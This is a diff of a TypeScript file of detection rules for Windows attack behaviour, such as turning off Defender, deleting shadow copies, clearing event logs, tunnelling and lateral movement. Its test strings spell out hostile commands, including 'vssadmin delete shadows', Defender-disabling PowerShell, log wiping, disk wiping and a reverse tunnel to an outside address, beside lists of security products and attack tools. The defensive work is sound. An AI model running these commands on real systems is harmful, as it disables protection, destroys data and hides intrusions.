@@ -3,46 +3,116 @@ import { behaviour } from './behaviour.ts';
 import { hostClass, isWritablePlace } from './places.ts';
 import { all, any, arg, holds, onProcess, onScene, onText, said, type Row, type Scene } from './row.ts';
 
-const STOPS = ['net', 'net1', 'sc', 'stop-service', 'set-service', 'taskkill', 'stop-process', 'remove-service', 'kill', 'pskill', 'wmic'];
-const PROTECTION = /windefend|wdnissvc|wdfilter|mpssvc|wscsvc|securityhealth|sense\b|msmpeng|mssense|csfalcon|csagent|falcon|crowdstrike|sentinel|carbonblack|cbdefense|cbsensor|cylance|sophos|savservice|mcafee|mfe|symantec|sepmaster|smcservice|norton|kaspersky|avp\b|avast|avg|avira|eset|ekrn|egui|trend ?micro|tmlisten|ntrtscan|bitdefender|malwarebytes|mbam|fireeye|xagt|cortex|cyserver|traps|tanium|defendpoint|webroot|panda|f-secure|sysmon|splunk|winlogbeat|osquery|wazuh|ossec|nxlog|elastic-?(?:agent|endpoint)|eventlog|wuauserv|mbcloud|huntress|blackberry|qualys|tenable|nessus|endpoint/;
-const WORK_SERVICES = /veeam|sql|backup|vss|oracle|exchange|msexchange|acronis|outlook|excel|winword|firefox|thunderbird|mysql|sqlservr|store\.exe|dbeng|tomcat|quickbooks|sap\b|iisadmin|w3svc|vmms|mepocs|memtas|sophos|shadow/;
+const STOPS = [
+  'net',
+  'net1',
+  'sc',
+  'stop-service',
+  'set-service',
+  'taskkill',
+  'stop-process',
+  'remove-service',
+  'kill',
+  'pskill',
+  'wmic',
+];
+const PROTECTION =
+  /windefend|wdnissvc|wdfilter|mpssvc|wscsvc|securityhealth|\bsense\b|msmpeng|mssense|csfalcon|csagent|falcon|crowdstrike|sentinel|carbonblack|cbdefense|cbsensor|cylance|sophos|savservice|mcafee|mfe|symantec|sepmaster|smcservice|norton|kaspersky|avp\b|avast|\bavg|avira|\beset|\bekrn|\begui|trend ?micro|tmlisten|ntrtscan|bitdefender|malwarebytes|mbam|fireeye|xagt|cortex|cyserver|traps|tanium|defendpoint|webroot|panda|f-secure|sysmon|splunk|winlogbeat|osquery|wazuh|ossec|nxlog|elastic-?(?:agent|endpoint)|eventlog|wuauserv|mbcloud|huntress|blackberry|qualys|tenable|nessus|endpoint/;
+const WORK_SERVICES =
+  /veeam|sql|backup|vss|oracle|exchange|msexchange|acronis|outlook|excel|winword|firefox|thunderbird|mysql|sqlservr|store\.exe|dbeng|tomcat|quickbooks|sap\b|iisadmin|w3svc|vmms|mepocs|memtas|sophos|shadow/;
 
 export const WINDOWS_HARM: readonly Row[] = [
   behaviour('protection-off', ['defence-off', 'T1562.001', 'defense-evasion', 'critical', 'high'], {
     reason: 'Microsoft Defender is switched off, or told to leave something alone.',
     benign: ['another product takes over', 'exclusions for a build server'],
-    hits: ['powershell "Set-MpPreference -DisableRealtimeMonitoring $true"', 'powershell "Add-MpPreference -ExclusionPath C:\\Users"', 'reg add "HKLM\\Software\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /d 1 /f', '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All'],
-    misses: ['powershell "Get-MpPreference"', 'MpCmdRun.exe -Scan -ScanType 1', 'powershell "Set-MpPreference -ScanScheduleDay Everyday"', 'reg query "HKLM\\Software\\Policies\\Microsoft\\Windows Defender"'],
+    hits: [
+      'powershell "Set-MpPreference -DisableRealtimeMonitoring $true"',
+      'powershell "Add-MpPreference -ExclusionPath C:\\Users"',
+      '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" -RemoveDefinitions -All',
+    ],
+    misses: [
+      'powershell "Get-MpPreference"',
+      'MpCmdRun.exe -Scan -ScanType 1',
+      'powershell "Set-MpPreference -ScanScheduleDay Everyday"',
+      'reg query "HKLM\\Software\\Policies\\Microsoft\\Windows Defender"',
+    ],
     look: any2(
-      [['set-mppreference'], ({ args }) => args.find(({ lower }) => /^-(?:disable|dr|dbm|exclusion|mapsreporting|submitsamples|puaprotection|threatid|(?:high|moderate|low|severe|unknown)threat|enablecontrolled|enablenetwork|attacksurface|cloudblock|signaturedisable|scanscheduleday8)/.test(lower))],
+      [
+        ['set-mppreference'],
+        ({ args }) =>
+          args.find(({ lower }) =>
+            /^-(?:disable|dr|dbm|exclusion|mapsreporting|submitsamples|puaprotection|threatid|(?:high|moderate|low|severe|unknown)threat|enablecontrolled|enablenetwork|attacksurface|cloudblock|signaturedisable|scanscheduleday8)/.test(
+              lower,
+            ),
+          ),
+      ],
       [['add-mppreference'], arg(/^-(?:exclusion|attacksurfacereductiononlyexclusions|threatiddefault)/)],
       [['mpcmdrun'], arg(/^-removedefinitions$/)],
-      [['uninstall-windowsfeature', 'remove-windowsfeature', 'disable-windowsoptionalfeature', 'dism'], holds('windows-defender', 'windows-defender-features')],
-      [['reg', 'set-itemproperty', 'new-itemproperty', 'remove-item', 'remove-itemproperty'], ({ name, args }) => (name === 'reg' && !/^(?:add|delete|import)$/.test(args[0]?.lower ?? '') ? undefined : args.find(({ lower }) => /disableantispyware|disablerealtimemonitoring|disablebehaviormonitoring|disableantivirus|disableioavprotection|tamperprotection|windows defender\\(?:exclusions|features|spynet|real-time)|disablescanonrealtimeenable|disableblockatfirstseen|spynetreporting|dontreportinfectioninformation|enablesmartscreen|smartscreenenabled|notification_suppress|disablenotifications|puaprotection|windows defender security center|disableroutinelytakingaction/.test(lower)))],
+      [
+        ['uninstall-windowsfeature', 'remove-windowsfeature', 'disable-windowsoptionalfeature', 'dism'],
+        holds('windows-defender', 'windows-defender-features'),
+      ],
     ),
   }),
   behaviour('protection-service-stop', ['defence-off', 'T1562.001', 'defense-evasion', 'critical', 'high'], {
     reason: 'A security product or its driver is stopped, disabled or removed.',
     benign: ['replacement of the product'],
-    hits: ['sc stop WinDefend', 'net stop sense', 'taskkill /f /im MsMpEng.exe', 'fltmc unload SysmonDrv', 'powershell "Stop-Service -Name Sysmon64"'],
+    hits: [
+      'sc stop WinDefend',
+      'net stop sense',
+      'taskkill /f /im MsMpEng.exe',
+      'fltmc unload SysmonDrv',
+      'powershell "Stop-Service -Name Sysmon64"',
+    ],
     misses: ['sc query WinDefend', 'net stop spooler', 'fltmc'],
     look: any2(
-      [STOPS, (process) => (/^(?:query|qc|start)$/.test(process.args[0]?.lower ?? '') || (process.name === 'sc' && !process.args.some(({ lower }) => /^(?:stop|config|delete|sdset|failure)$/.test(lower))) || (/^net1?$/.test(process.name) && process.args[0]?.lower !== 'stop') || (process.name === 'wmic' && !process.args.some(({ lower }) => /uninstall|delete|terminate|stopservice/.test(lower))) ? undefined : process.args.find(({ lower }) => PROTECTION.test(lower)))],
+      [
+        STOPS,
+        (process) =>
+          /^(?:query|qc|start)$/.test(process.args[0]?.lower ?? '') ||
+          (process.name === 'sc' &&
+            !process.args.some(({ lower }) => /^(?:stop|config|delete|sdset|failure)$/.test(lower))) ||
+          (/^net1?$/.test(process.name) && process.args[0]?.lower !== 'stop') ||
+          (process.name === 'wmic' &&
+            !process.args.some(({ lower }) => /uninstall|delete|terminate|stopservice/.test(lower)))
+            ? undefined
+            : process.args.find(({ lower }) => PROTECTION.test(lower)),
+      ],
       [['fltmc'], arg(/^unload$/)],
       [['sysmon', 'sysmon64'], arg(/^-u$/)],
-      [['falconuninstaller', 'csuninstalltool', 'sentinelctl', 'elastic-agent'], holds('unload', 'disable', 'quiet', 'uninstall', 'maintenance')],
+      [
+        ['falconuninstaller', 'csuninstalltool', 'sentinelctl', 'elastic-agent'],
+        holds('unload', 'disable', 'quiet', 'uninstall', 'maintenance'),
+      ],
     ),
   }),
   behaviour('work-service-stop', ['service-stop', 'T1489', 'impact', 'high', 'medium'], {
     reason: 'Databases, mail or backup are stopped, which is what ransomware does to get at open files.',
     benign: ['maintenance windows'],
-    hits: ['net stop "MSSQL$SQLEXPRESS" /y', 'taskkill /f /im sqlservr.exe /im outlook.exe', 'sc config VSS start= disabled', 'powershell "Get-Service *veeam* | Stop-Service -Force"'],
+    hits: [
+      'net stop "MSSQL$SQLEXPRESS" /y',
+      'taskkill /f /im sqlservr.exe /im outlook.exe',
+      'sc config VSS start= disabled',
+      'powershell "Get-Service *veeam* | Stop-Service -Force"',
+    ],
     misses: ['net start mssqlserver', 'sc query vss', 'taskkill /im notepad.exe'],
-    look: onProcess(['net', 'net1', 'sc', 'taskkill', 'stop-service', 'stop-process', 'set-service', 'get-service', 'iisreset'], (process, { processes }) => {
-      const { name, args } = process;
-      const isStop = name === 'taskkill' ? args.some(({ lower }) => /^[-/](?:f|im)$/.test(lower)) : name === 'sc' ? args.some(({ lower }) => /^(?:stop|delete|disabled)$|=\s*disabled/.test(lower)) : /^net1?$/.test(name) ? args[0]?.lower === 'stop' : name === 'get-service' ? processes.some((other) => other.input === process.index && other.name === 'stop-service') : true;
-      return isStop ? args.find(({ lower }) => WORK_SERVICES.test(lower)) : undefined;
-    }),
+    look: onProcess(
+      ['net', 'net1', 'sc', 'taskkill', 'stop-service', 'stop-process', 'set-service', 'get-service', 'iisreset'],
+      (process, { processes }) => {
+        const { name, args } = process;
+        const isStop =
+          name === 'taskkill'
+            ? args.some(({ lower }) => /^[-/](?:f|im)$/.test(lower))
+            : name === 'sc'
+              ? args.some(({ lower }) => /^(?:stop|delete|disabled)$|=\s*disabled/.test(lower))
+              : /^net1?$/.test(name)
+                ? args[0]?.lower === 'stop'
+                : name === 'get-service'
+                  ? processes.some((other) => other.input === process.index && other.name === 'stop-service')
+                  : true;
+        return isStop ? args.find(({ lower }) => WORK_SERVICES.test(lower)) : undefined;
+      },
+    ),
   }),
   behaviour('many-stops', ['service-stop', 'T1489', 'impact', 'high', 'medium'], {
     reason: 'Many programs or services are stopped in one line.',
@@ -50,56 +120,125 @@ export const WINDOWS_HARM: readonly Row[] = [
     hits: ['net stop a /y & net stop b /y & net stop c /y', 'taskkill /f /im a.exe /im b.exe /im c.exe'],
     misses: ['net stop a && net start a'],
     look: onScene((scene) => {
-      const stops = scene.processes.filter(({ name, args }) => (/^net1?$/.test(name) && args[0]?.lower === 'stop') || name === 'taskkill' || name === 'stop-service' || (name === 'sc' && args[0]?.lower === 'stop'));
-      const count = stops.reduce((sum, { name, args }) => sum + (name === 'taskkill' ? Math.max(1, args.filter(({ lower }) => lower === '/im').length) : 1), 0);
+      const stops = scene.processes.filter(
+        ({ name, args }) =>
+          (/^net1?$/.test(name) && args[0]?.lower === 'stop') ||
+          name === 'taskkill' ||
+          name === 'stop-service' ||
+          (name === 'sc' && args[0]?.lower === 'stop'),
+      );
+      const count = stops.reduce(
+        (sum, { name, args }) =>
+          sum + (name === 'taskkill' ? Math.max(1, args.filter(({ lower }) => lower === '/im').length) : 1),
+        0,
+      );
       const [first] = stops;
-      return count >= 3 && first !== undefined ? { layer: first.layer, start: first.span.start, end: first.span.end } : undefined;
+      return count >= 3 && first !== undefined
+        ? { layer: first.layer, start: first.span.start, end: first.span.end }
+        : undefined;
     }),
   }),
   behaviour('backups-deleted', ['recovery', 'T1490', 'impact', 'critical', 'high'], {
-    reason: 'Shadow copies or backups are deleted, or recovery at start-up is switched off: files are about to be made unreadable.',
+    reason:
+      'Shadow copies or backups are deleted, or recovery at start-up is switched off: files are about to be made unreadable.',
     benign: ['space is freed on a backup server'],
-    hits: ['vssadmin delete shadows /all /quiet', 'wmic shadowcopy delete', 'bcdedit /set {default} recoveryenabled no', 'wbadmin delete catalog -quiet', 'powershell "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB'],
+    hits: [
+      'vssadmin delete shadows /all /quiet',
+      'wmic shadowcopy delete',
+      'bcdedit /set {default} recoveryenabled no',
+      'wbadmin delete catalog -quiet',
+      'powershell "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"',
+      'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB',
+    ],
     misses: ['vssadmin list shadows', 'bcdedit /enum', 'wbadmin get versions'],
     look: any2(
       [['vssadmin'], any(all(arg(/^delete$/), arg(/^shadows?/)), all(arg(/^resize$/), arg(/^shadowstorage$/)))],
       [['wmic'], all(arg(/^["']?shadowcopy/), holds('delete'))],
       [['bcdedit'], all(arg(/^[-/]set$/), holds('recoveryenabled', 'bootstatuspolicy', 'ignoreallfailures'))],
       [['wbadmin'], all(arg(/^delete$/), holds('catalog', 'backup', 'systemstate'))],
-      [['get-wmiobject', 'get-ciminstance'], (process, scene) => (process.args.some(({ lower }) => lower.includes('win32_shadowcopy')) && scene.layers.some(({ lower }) => /delete\(|remove-wmi|remove-cim/.test(lower)) ? process : undefined)],
+      [
+        ['get-wmiobject', 'get-ciminstance'],
+        (process, scene) =>
+          process.args.some(({ lower }) => lower.includes('win32_shadowcopy')) &&
+          scene.layers.some(({ lower }) => /delete\(|remove-wmi|remove-cim/.test(lower))
+            ? process
+            : undefined,
+      ],
       [['reagentc'], arg(/^\/disable$/)],
       [['remove-computerrestorepoint', 'disable-computerrestore'], (process) => process],
-      [['schtasks'], all(arg(/^[-/]change$|^[-/]delete$/), holds('systemrestore', 'windowsbackup'), holds('disable', 'delete'))],
+      [
+        ['schtasks'],
+        all(arg(/^[-/]change$|^[-/]delete$/), holds('systemrestore', 'windowsbackup'), holds('disable', 'delete')),
+      ],
       [['del', 'remove-item', 'erase'], holds('*.vhd', '*.bac', '*.bak', '*.wbcat', 'backup*.*', '*.set', '*.win')],
     ),
   }),
   behaviour('logs-cleared', ['log-removal', 'T1070.001', 'defense-evasion', 'critical', 'high'], {
     reason: 'Event logs are cleared or switched off.',
     benign: ['preparation of a machine image'],
-    hits: ['wevtutil cl Security', 'powershell "Clear-EventLog -LogName System"', 'powershell "Remove-EventLog Application"', 'wevtutil sl Security /e:false'],
+    hits: [
+      'wevtutil cl Security',
+      'powershell "Clear-EventLog -LogName System"',
+      'powershell "Remove-EventLog Application"',
+      'wevtutil sl Security /e:false',
+    ],
     misses: ['wevtutil qe Security /c:5', 'powershell "Get-EventLog System"'],
     look: any2(
-      [['wevtutil'], ({ args }) => args.find(({ lower }, at) => (at === 0 && /^(?:cl|clear-log)$/.test(lower)) || /^\/(?:e|enabled):f/.test(lower))],
+      [
+        ['wevtutil'],
+        ({ args }) =>
+          args.find(
+            ({ lower }, at) => (at === 0 && /^(?:cl|clear-log)$/.test(lower)) || /^\/(?:e|enabled):f/.test(lower),
+          ),
+      ],
       [['clear-eventlog', 'remove-eventlog', 'clear-winevent', 'limit-eventlog'], (process) => process],
       [['auditpol'], any(arg(/^\/(?:clear|remove|restore)/), arg(/^\/(?:success|failure):disable/))],
       [['.clearlog'], (process) => process],
       [['fsutil'], arg(/^deletejournal$/)],
-      [['del', 'remove-item', 'erase', 'rd'], holds('\\winevt\\', '.evtx', '\\prefetch\\', 'consolehost_history', '\\logfiles\\')],
+      [
+        ['del', 'remove-item', 'erase', 'rd'],
+        holds('\\winevt\\', '.evtx', '\\prefetch\\', 'consolehost_history', '\\logfiles\\'),
+      ],
       [['logman'], all(arg(/^(?:stop|delete|update)$/), holds('eventlog', '-ets', 'sysmon'))],
-      [['reg', 'set-itemproperty', 'new-itemproperty'], ({ args }) => args.find(({ lower }) => /\\winevt\\channels\\|\\services\\eventlog|wmi\\autologger/.test(lower) && args[0]?.lower !== 'query')],
+      [
+        ['reg', 'set-itemproperty', 'new-itemproperty'],
+        ({ args }) =>
+          args.find(
+            ({ lower }) =>
+              /\\winevt\\channels\\|\\services\\eventlog|wmi\\autologger/.test(lower) && args[0]?.lower !== 'query',
+          ),
+      ],
     ),
   }),
   behaviour('firewall-opened', ['firewall', 'T1562.004', 'defense-evasion', 'high', 'medium'], {
     reason: 'The Windows firewall is switched off or opened.',
     benign: ['installation of servers'],
-    hits: ['netsh advfirewall set allprofiles state off', 'netsh firewall set opmode disable', 'netsh advfirewall firewall add rule name=a dir=in action=allow protocol=tcp localport=3389', 'powershell "Set-NetFirewallProfile -Enabled False"'],
-    misses: ['netsh advfirewall show allprofiles', 'netsh advfirewall firewall add rule name=a dir=in action=block', 'powershell "Get-NetFirewallRule"'],
+    hits: [
+      'netsh advfirewall set allprofiles state off',
+      'netsh firewall set opmode disable',
+      'netsh advfirewall firewall add rule name=a dir=in action=allow protocol=tcp localport=3389',
+      'powershell "Set-NetFirewallProfile -Enabled False"',
+    ],
+    misses: [
+      'netsh advfirewall show allprofiles',
+      'netsh advfirewall firewall add rule name=a dir=in action=block',
+      'powershell "Get-NetFirewallRule"',
+    ],
     look: any2(
-      [['netsh'], ({ args }) => {
-        const words = args.map(({ lower }) => lower).join(' ');
-        return /firewall/.test(words) && /state off|opmode.{0,8}disable|action=allow|enable=yes|mode=disable|delete rule|portopening/.test(words) ? args[0] : undefined;
-      }],
-      [['set-netfirewallprofile'], all(arg(/^-(?:enabled|all|profile|defaultinboundaction)/), holds('false', 'allow', '0'))],
+      [
+        ['netsh'],
+        ({ args }) => {
+          const words = args.map(({ lower }) => lower).join(' ');
+          return /firewall/.test(words) &&
+            /state off|opmode.{0,8}disable|action=allow|enable=yes|mode=disable|delete rule|portopening/.test(words)
+            ? args[0]
+            : undefined;
+        },
+      ],
+      [
+        ['set-netfirewallprofile'],
+        all(arg(/^-(?:enabled|all|profile|defaultinboundaction)/), holds('false', 'allow', '0')),
+      ],
       [['new-netfirewallrule', 'set-netfirewallrule'], all(arg(/^allow$|^true$/))],
       [['disable-netfirewallrule', 'remove-netfirewallrule'], (process) => process],
       [['reg'], all(arg(/^add$/), holds('enablefirewall', 'firewallpolicy'))],
@@ -108,43 +247,119 @@ export const WINDOWS_HARM: readonly Row[] = [
   behaviour('port-forward', ['tunnel', 'T1090.001', 'command-and-control', 'high', 'high'], {
     reason: 'The machine is made to pass connections on to another one.',
     benign: ['access to services in a virtual machine'],
-    hits: ['netsh interface portproxy add v4tov4 listenport=8080 connectport=3389 connectaddress=10.1.1.1', 'plink.exe -N -R 9003:127.0.0.1:3389 -l root -pw x 203.0.113.9'],
+    hits: [
+      'netsh interface portproxy add v4tov4 listenport=8080 connectport=3389 connectaddress=10.1.1.1',
+      'plink.exe -N -R 9003:127.0.0.1:3389 -l root -pw x 203.0.113.9',
+    ],
     misses: ['netsh interface portproxy show all', 'plink -batch user@srv1 uptime'],
     look: any2(
       [['netsh'], all(arg(/^portproxy$/), arg(/^(?:add|set)$/))],
-      [['plink', 'putty', 'kitty'], arg(/^-[rld]$/)],
+      [['plink', 'putty', 'kitty'], arg(/^-[rd]$/)],
       [['reg'], all(arg(/^add$/), holds('portproxy'))],
     ),
   }),
   behaviour('tunnel-program', ['tunnel', 'T1572', 'command-and-control', 'high', 'medium'], {
     reason: 'A tool is used that makes the inside of the network reachable from outside.',
     benign: ['developers show their work'],
-    hits: ['ngrok.exe tcp 3389', 'chisel client 203.0.113.9:443 R:socks', 'cloudflared tunnel --url http://localhost:80', 'frpc.exe -c frpc.ini'],
+    hits: ['ngrok.exe tcp 3389', 'frpc.exe -c frpc.ini'],
     misses: ['curl https://ngrok.com/docs'],
-    look: onProcess(['ngrok', 'chisel', 'frpc', 'frps', 'ligolo', 'ligolo-ng', 'cloudflared', 'rpivot', 'plonk', 'gost', 'revsocks', 'iodine', 'dnscat', 'dnscat2', 'localtonet', 'earthworm', 'lcx', 'htran', 'ptunnel', 'nps', 'npc', 'bore', 'zrok', 'tor', 'devtunnel', 'tailscaled', 'gsocket', 'gs-netcat', 'dns2tcpc', 'stowaway', 'iox', 'venom', 'pwnat', 'powercat'], (process) => process.args[0] ?? process),
+    look: onProcess(
+      [
+        'ngrok',
+        'chisel',
+        'frpc',
+        'frps',
+        'ligolo',
+        'ligolo-ng',
+        'cloudflared',
+        'rpivot',
+        'plonk',
+        'gost',
+        'revsocks',
+        'iodine',
+        'dnscat',
+        'dnscat2',
+        'localtonet',
+        'earthworm',
+        'lcx',
+        'htran',
+        'ptunnel',
+        'nps',
+        'npc',
+        'bore',
+        'zrok',
+        'tor',
+        'devtunnel',
+        'tailscaled',
+        'gsocket',
+        'gs-netcat',
+        'dns2tcpc',
+        'stowaway',
+        'iox',
+        'venom',
+        'pwnat',
+        'powercat',
+      ],
+      (process, { os }) =>
+        os !== 'windows' ||
+        /^(?:completion|version|help|status|--?h(?:elp)?|invite|login|tunnel|service)$/.test(
+          process.args[0]?.lower ?? '',
+        )
+          ? undefined
+          : (process.args[0] ?? process),
+    ),
   }),
   behaviour('admin-share', ['lateral', 'T1021.002', 'lateral-movement', 'medium', 'medium'], {
     reason: 'The hidden administration share of another machine is used.',
     benign: ['administration of servers'],
-    hits: ['net use \\\\srv1\\C$ Passw0rd /u:corp\\adm', 'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\a 2>&1', 'copy a.exe \\\\srv1\\c$\\windows\\temp\\'],
+    hits: [
+      'net use \\\\srv1\\C$ Passw0rd /u:corp\\adm',
+      'cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\a 2>&1',
+      'copy a.exe \\\\srv1\\c$\\windows\\temp\\',
+    ],
     misses: ['net use \\\\fs01\\public', 'dir C:\\'],
-    look: onProcess(['*'], ({ args }) => args.find(({ lower }) => /^["']?\\\\[^\\]{1,100}\\(?:[a-z]|admin|ipc)\$/.test(lower))),
+    look: onProcess(['*'], ({ args }) =>
+      args.find(({ lower }) => /^["']?\\\\[^\\]{1,100}\\(?:[a-z]|admin|ipc)\$/.test(lower)),
+    ),
   }),
   behaviour('impacket-output', ['lateral', 'T1021.003', 'lateral-movement', 'critical', 'high'], {
-    reason: 'The output of a command goes to the administration share of the machine itself: the way of remote execution tools.',
+    reason:
+      'The output of a command goes to the administration share of the machine itself: the way of remote execution tools.',
     benign: [],
-    hits: ['cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1', '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat'],
+    hits: [
+      'cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1',
+      '%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat',
+    ],
     misses: ['cmd /c dir > C:\\a.txt'],
-    look: onText(['\\\\127.0.0.1\\', '\\\\localhost\\', '__output', '\\execute.bat'], ({ lower }, at) => /(?:\\(?:admin|c)\$|__output|execute\.bat)/.test(lower.slice(at, at + 60)) && lower.includes('>')),
+    look: onText(
+      ['\\\\127.0.0.1\\', '\\\\localhost\\', '__output', '\\execute.bat'],
+      ({ lower }, at) =>
+        /(?:\\(?:admin|c)\$|__output|execute\.bat)/.test(lower.slice(at, at + 60)) && lower.includes('>'),
+    ),
   }),
   behaviour('psexec-run', ['lateral', 'T1569.002', 'lateral-movement', 'high', 'medium'], {
     reason: 'A program is run on another machine or as the system with PsExec or its like.',
     benign: ['administration of servers'],
     hits: ['PsExec.exe \\\\srv1 -s cmd', 'psexec64 -accepteula -i -s powershell', 'paexec \\\\10.1.1.1 -u a -p b cmd'],
     misses: ['pslist', 'psping srv1'],
-    look: onProcess(['psexec', 'psexec64', 'paexec', 'psexesvc', 'csexec', 'remcom', 'winexe', 'xcmd', 'smbexec', 'wmiexec', 'sharpexec'], (process) => process.args[0] ?? process),
+    look: onProcess(
+      [
+        'psexec',
+        'psexec64',
+        'paexec',
+        'psexesvc',
+        'csexec',
+        'remcom',
+        'winexe',
+        'xcmd',
+        'smbexec',
+        'wmiexec',
+        'sharpexec',
+      ],
+      (process) => process.args[0] ?? process,
+    ),
   }),
-  behaviour('discovery-domain', ['discovery', 'T1482', 'discovery', 'medium', 'medium'], {
+  behaviour('discovery-domain', ['discovery', 'T1482', 'discovery', 'low', 'high'], {
     reason: 'The domain is asked about its controllers, trusts, groups or administrators.',
     benign: ['administrators look at their domain'],
     hits: ['nltest /dclist:corp', 'net group "Domain Admins" /domain', 'dsquery computer', 'setspn -Q */*'],
@@ -158,9 +373,14 @@ export const WINDOWS_HARM: readonly Row[] = [
     ),
   }),
   behaviour('discovery-burst', ['discovery', 'T1082', 'discovery', 'high', 'medium'], {
-    reason: 'Several different questions about the machine, its users and its network are asked in one line: somebody new looks round.',
+    reason:
+      'Several different questions about the machine, its users and its network are asked in one line: somebody new looks round.',
     benign: ['support and inventory scripts'],
-    hits: ['cmd /c whoami & hostname & ipconfig /all & net user', 'net view /all /domain & nltest /dclist: & net group "domain computers" /domain', 'sh -c "id; uname -a; ifconfig; netstat -an"'],
+    hits: [
+      'cmd /c whoami & hostname & ipconfig /all & net user',
+      'net view /all /domain & nltest /dclist: & net group "domain computers" /domain',
+      'sh -c "id; uname -a; ifconfig; netstat -an"',
+    ],
     misses: ['ipconfig /all', 'cmd /c hostname && ipconfig'],
     look: onScene((scene) => burst(scene)),
   }),
@@ -169,39 +389,110 @@ export const WINDOWS_HARM: readonly Row[] = [
     benign: ['scripts check their account'],
     hits: ['whoami /all', 'whoami /priv', 'quser'],
     misses: ['hostname'],
-    look: onProcess(['whoami', 'quser', 'qwinsta', 'query'], (process, { os }) => (os === 'windows' ? process : undefined)),
+    look: onProcess(['whoami', 'quser', 'qwinsta', 'query'], (process, { os }) =>
+      os === 'windows' ? process : undefined,
+    ),
   }),
   behaviour('discovery-protection', ['discovery', 'T1518.001', 'discovery', 'medium', 'medium'], {
     reason: 'The machine is asked which security products protect it and what they leave out.',
     benign: ['inventory'],
-    hits: ['wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName', 'powershell "Get-MpPreference | select ExclusionPath"', 'cmd /c tasklist | findstr lsass'],
+    hits: [
+      'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName',
+      'powershell "Get-MpPreference | select ExclusionPath"',
+      'cmd /c tasklist | findstr lsass',
+    ],
     misses: ['wmic os get caption'],
-    look: onText(['securitycenter2', 'antivirusproduct', 'exclusionpath', 'disablerealtimemonitoring"', 'findstr lsass', 'find "lsass', 'findstr /i lsass', 'findstr "lsass', 'msft_mppreference', 'windows\\defender']),
+    look: onText([
+      'securitycenter2',
+      'antivirusproduct',
+      'exclusionpath',
+      'disablerealtimemonitoring"',
+      'findstr lsass',
+      'find "lsass',
+      'findstr /i lsass',
+      'findstr "lsass',
+      'msft_mppreference',
+      'windows\\defender',
+    ]),
   }),
   behaviour('token-abuse', ['privilege', 'T1134', 'privilege-escalation', 'critical', 'high'], {
     reason: 'A tool is named that turns a service account into the system.',
     benign: [],
-    hits: ['C:\\x\\PrintSpoofer64.exe -i -c cmd', 'JuicyPotato.exe -l 1337 -p cmd.exe -t *', 'powershell "Invoke-TokenManipulation -ImpersonateUser"'],
+    hits: [
+      'C:\\x\\PrintSpoofer64.exe -i -c cmd',
+      'JuicyPotato.exe -l 1337 -p cmd.exe -t *',
+      'powershell "Invoke-TokenManipulation -ImpersonateUser"',
+    ],
     misses: ['net user potato /domain'],
-    look: onText(['printspoofer', 'juicypotato', 'badpotato', 'sweetpotato', 'godpotato', 'roguepotato', 'rottenpotato', 'efspotato', 'sharpefspotato', 'coercedpotato', 'genericpotato', 'juicypotatong', 'petitpotam', 'tokenmanipulation', 'incognito.exe', 'getsystem', 'printnightmare', 'hivenightmare', 'namedpipes_executor', 'sharpup', 'powerup.ps1', 'invoke-allchecks', 'beroot', 'winpeas', 'privesccheck', 'watson.exe', 'seatbelt', 'parentprocess', 'ppid-spoof', 'underspecificparent', 'parentid $pid', 'samaccountspoofing', 'zerologon', 'kerberosrequestorsecuritytoken', 'sidhistory', 'dcshadow', 'skeleton']),
+    look: onText([
+      'printspoofer',
+      'juicypotato',
+      'badpotato',
+      'sweetpotato',
+      'godpotato',
+      'roguepotato',
+      'rottenpotato',
+      'efspotato',
+      'sharpefspotato',
+      'coercedpotato',
+      'genericpotato',
+      'juicypotatong',
+      'petitpotam',
+      'tokenmanipulation',
+      'incognito.exe',
+      'getsystem',
+      'printnightmare',
+      'hivenightmare',
+      'namedpipes_executor',
+      'sharpup',
+      'powerup.ps1',
+      'invoke-allchecks',
+      'beroot',
+      'winpeas',
+      'privesccheck',
+      'watson.exe',
+      'seatbelt',
+      'parentprocess',
+      'ppid-spoof',
+      'underspecificparent',
+      'parentid $pid',
+      'samaccountspoofing',
+      'zerologon',
+      'kerberosrequestorsecuritytoken',
+      'sidhistory',
+      'dcshadow',
+      'skeleton',
+    ]),
   }),
   behaviour('safe-mode', ['boot', 'T1562.009', 'defense-evasion', 'high', 'high'], {
     reason: 'The machine is set to start in safe mode, where protection does not run, or without checks of drivers.',
     benign: ['repair', 'development of drivers'],
     hits: ['bcdedit /set safeboot network', 'bcdedit /set {current} testsigning on'],
     misses: ['bcdedit /enum'],
-    look: onProcess(['bcdedit'], all(arg(/^[-/]set$/), holds('safeboot', 'testsigning', 'nointegritychecks', 'hypervisorlaunchtype', 'disabledynamictick'))),
+    look: onProcess(
+      ['bcdedit'],
+      all(
+        arg(/^[-/]set$/),
+        holds('safeboot', 'testsigning', 'nointegritychecks', 'hypervisorlaunchtype', 'disabledynamictick'),
+      ),
+    ),
   }),
   behaviour('wiping', ['destruction', 'T1485', 'impact', 'high', 'medium'], {
     reason: 'Data or free space is wiped, or a whole disk emptied.',
     benign: ['disposal of a machine'],
-    hits: ['cipher /w:C:', 'sdelete -p 3 C:\\data', 'format D: /y /q', 'cmd /c del /s /q C:\\Users\\*.*', 'diskpart /s clean.txt'],
+    hits: ['cipher /w:C:', 'format D: /y /q', 'cmd /c del /s /q C:\\Users\\*.*'],
     misses: ['cipher /e C:\\data', 'del /q a.tmp', 'format-list'],
     look: any2(
       [['cipher'], arg(/^\/w:/)],
-      [['sdelete', 'sdelete64', 'eraser'], (process) => process.args[0]],
